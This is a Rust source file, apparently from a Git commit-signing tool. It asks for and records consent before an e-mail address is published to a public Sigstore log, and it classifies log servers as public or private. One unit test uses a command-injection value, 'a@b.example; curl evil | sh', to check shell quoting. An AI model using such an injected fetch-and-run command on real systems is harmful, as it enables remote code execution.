//! Consent before an e-mail address is published for good.
//!
//! A certificate with an e-mail address in it stands in a public log for ever, and nobody can take it out
//! again. So the person is told and asked once, and the answer is kept in the user's own configuration.
//! Private instances and identities without an address need none.

use std::{ffi::OsStr, io, time::Duration};

use url::Url;

use super::{World, git_config, terminal};
use crate::{
    identity::Claims,
    repository::{Configuration, Scopes},
    sign::SigningPlan,
    sigstore::trusted_root::{PUBLIC_GOOD, STAGING},
    words::{self, Failure},
};

/// The addresses that may be published, one a value.
const KEY: &str = "countersign.publish";

/// Where Sigstore's public servers are.
const PUBLIC_DOMAINS: [&str; 2] = ["sigstore.dev", "sigstage.dev"];

/// How long a person may think about a question.
const PATIENCE: Duration = Duration::from_secs(120);

/// Whether what `instance` with `plan` records can be read by everyone.
pub(super) fn is_public(instance: &str, plan: &SigningPlan) -> bool {
    // The authority publishes its certificates too.
    [PUBLIC_GOOD, STAGING].contains(&instance) || plan.recorders().any(is_everyones)
}

/// Whether `url` is one of Sigstore's public servers; also where that cannot be told.
fn is_everyones(url: &str) -> bool {
    let Ok(url) = Url::parse(url) else { return true };
    // The parser has made it lower case.
    let host = url.host_str().unwrap_or_default().trim_end_matches('.');
    PUBLIC_DOMAINS
        .iter()
        .any(|domain| host.strip_suffix(domain).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
}

/// Make sure that the e-mail address of `claims`, if there is one, may be published.
pub(super) fn require(
    world: &World<'_>,
    configuration: &Configuration,
    claims: &Claims,
) -> Result<(), Failure> {
    let Some(address) = &claims.email else { return Ok(()) };
    if is_given(configuration, address) {
        return Ok(());
    }
    let command = command(address);
    let told = format!(
        "countersign: the signature puts '{}' into a public log, for good: nobody can take it out again\n",
        words::escape(address)
    );
    match ask(&format!("{told}countersign: publish it, now and from now on? [y/N] "), PATIENCE) {
        Ok(true) => record(world, address),
        Ok(false) => Err(Failure::new(
            format!("the e-mail address '{address}' is not to be published"),
            "log in as somebody else, or sign with a private instance ('countersign.instance')",
        )),
        Err(_) => Err(Failure::new(
            format!(
                "the signature would put '{address}' into a public log for good, and there is nobody to ask"
            ),
            format!("if it may be published, run '{command}'"),
        )),
    }
}

/// Whether `address` may be published.
pub(super) fn is_given(configuration: &Configuration, address: &str) -> bool {
    configuration.get_all(KEY, Scopes::Protected).iter().any(|(_, agreed)| *agreed == address)
}

/// The command that records consent.
pub(super) fn command(address: &str) -> String {
    format!("git config --global --add {KEY} {}", words::shell_word(address))
}

fn record(world: &World<'_>, address: &str) -> Result<(), Failure> {
    let arguments = ["config", "--global", "--add", KEY, address].map(OsStr::new);
    git_config::write(world, &world.directory, &arguments, |reason| {
        Failure::new(
            format!("the consent cannot be recorded: {reason}"),
            format!("set '{KEY}' to '{address}' by hand"),
        )
    })
}

/// Ask the person at the terminal; yes only in so many words.
///
/// # Errors
/// There is no terminal, or no answer within `patience`.
pub(super) fn ask(question: &str, patience: Duration) -> io::Result<bool> {
    match terminal::ask(question, terminal::Echo::On, patience) {
        Ok(line) => Ok(["y", "yes"].contains(&line.trim().to_lowercase().as_str())),
        Err(error) if terminal::is_refusal(&error) => Ok(false),
        Err(error) => Err(error),
    }
}

#[cfg(test)]
mod tests {
    use super::{SigningPlan, command, is_public};
    use crate::sign::{LogService, Logging, RekorVersion};

    #[test]
    fn what_is_public() {
        const OURS: &str = "https://sigstore.work.example";
        for (instance, fulcio, rekor, expected) in [
            ("public-good", OURS, "https://rekor.example", true),
            ("staging", OURS, "http://127.0.0.1:1", true),
            ("work", OURS, "https://rekor.example", false),
            ("work", OURS, "https://log2025-1.rekor.sigstore.dev/api", true),
            ("work", OURS, "https://rekor.sigstore.dev:443", true),
            ("work", OURS, "https://Rekor.SigStore.DEV./", true),
            ("work", OURS, "https://rekor.sigstage.dev", true),
            ("work", OURS, "https://user@rekor.sigstore.dev", true),
            ("work", OURS, "https://rekor.sigstore.dev.example", false),
            ("work", OURS, "https://notsigstore.dev", false),
            ("work", "https://fulcio.sigstore.dev", "https://rekor.example", true),
            ("work", "no url", "https://rekor.example", true),
            ("sandbox", "http://127.0.0.1:4000", "http://127.0.0.1:4000", false),
        ] {
            let logs = vec![LogService { url: rekor.to_owned(), version: RekorVersion::V1 }];
            let fulcio = fulcio.to_owned();
            let plan = SigningPlan { fulcio, logs, timestamps: Vec::new(), logging: Logging::Required };
            assert_eq!(is_public(instance, &plan), expected, "{instance} {rekor}");
        }
    }

    #[test]
    fn a_hostile_address_stays_one_word_of_the_command() {
        assert_eq!(command("a@b.example"), "git config --global --add countersign.publish a@b.example");
        let command = command("a@b.example; curl evil | sh");
        assert_eq!(command, "git config --global --add countersign.publish 'a@b.example; curl evil | sh'");
    }
}
